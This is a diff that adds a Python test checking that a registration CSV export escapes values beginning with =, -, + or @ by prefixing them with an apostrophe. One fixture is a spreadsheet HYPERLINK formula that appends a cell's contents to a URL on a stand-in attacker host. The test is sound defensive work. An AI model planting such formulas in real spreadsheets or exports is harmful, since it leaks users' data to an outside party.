@@ -72,6 +72,20 @@ def test_csv_export_has_the_registrations_and_is_audited(worker, session):
     assert AuditEvent.objects.filter(action=AuditEvent.Action.READ, changes__export="csv").exists()
 
 
+def test_csv_export_writes_formulas_as_text_and_other_values_unchanged(worker, session):
+    register(session, name='=HYPERLINK("https://aanvaller.example/?x="&B2;"klik")')
+    register(session, name="-1+1", email="", phone="+32 470 11 22 33")
+    register(session, name="Fatima El Amrani", email="fatima@example.be", remarks="@kinderwagen")
+
+    response = logged_in(worker).get(session_url(session, "session_csv"))
+
+    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
+    assert rows[1][0] == """'=HYPERLINK("https://aanvaller.example/?x="&B2;"klik")"""
+    assert rows[2][0] == "'-1+1" and rows[2][2] == "'+32 470 11 22 33"
+    assert rows[3][:4] == ["Fatima El Amrani", "fatima@example.be", "", "1"]
+    assert rows[3][-1] == "'@kinderwagen"
+
+
 def test_attendance_is_marked(worker, session):
     present, absent = fill(session, 2)
 
